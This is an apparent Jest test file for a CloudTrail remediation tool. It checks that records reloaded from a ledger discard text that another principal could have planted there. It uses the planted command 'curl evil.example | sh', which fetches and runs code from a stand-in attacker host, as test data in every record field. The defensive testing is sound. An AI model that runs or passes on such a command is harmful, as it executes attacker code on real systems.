import { describe, expect, test } from '@jest/globals';
import { NO_MEMORY } from '../../../../lambda/core/model/memory.ts';
import { messageFor } from '../../../../lambda/core/notification/message-for.ts';
import { savedRecord } from '../../../../lambda/core/outcome/saved-record.ts';
import { NOW, PERFECT_TRAIL, recordWith, triggerWith } from '../../../support/perfect-trail.ts';

const PLANTED = 'curl evil.example | sh';
const planted = recordWith({
  outcome: 'BLOCKED',
  reason: 'scp',
  detail: PLANTED,
  whoCanAct: PLANTED,
  restore: [PLANTED],
  queueUrl: PLANTED,
  ledgerError: PLANTED,
  before: { logGroupArn: PLANTED, roleArn: PLANTED, isLogging: true },
  remaining: [{ rule: 'role-not-set', verdict: 'violated', evidence: { source: PLANTED, saw: PLANTED } }],
  plan: { steps: [], refused: [{ rule: 'role-not-set', reason: 'scp', detail: PLANTED } as never] },
});

describe('a record that an earlier run saved', () => {
  test('keeps its outcome, its call and its rules, and says that they come from the ledger', () => {
    const record = savedRecord(planted, NO_MEMORY);
    expect(record).toMatchObject({
      id: planted.id,
      outcome: 'BLOCKED',
      reason: 'scp',
      trigger: planted.trigger,
      remaining: [{ rule: 'role-not-set', verdict: 'violated' }],
      fromLedger: true,
    });
    expect(messageFor(record).text).toContain('What trailmend did: says the ledger, nothing. An earlier run saved');
  });

  test('loses every text and command that another principal could have written there', () => {
    const record = savedRecord(planted, NO_MEMORY);
    expect(JSON.stringify(record)).not.toContain(PLANTED);
    expect(messageFor(record).text).not.toContain(PLANTED);
  });

  test('about a deleted trail has its commands from the settings that the ledger remembers', () => {
    const deleted = recordWith({
      outcome: 'SKIPPED',
      reason: 'trail-deleted',
      trigger: triggerWith({ eventName: 'DeleteTrail', tampering: 'deleted' }),
      restore: [PLANTED],
    });
    const record = savedRecord(deleted, { ...NO_MEMORY, posture: { since: NOW, trail: PERFECT_TRAIL } });
    expect(record).toMatchObject({ reason: 'trail-deleted', fromLedger: true });
    expect(record.restore?.[0]).toContain('aws cloudtrail create-trail');
    expect(JSON.stringify(record)).not.toContain(PLANTED);
  });
});
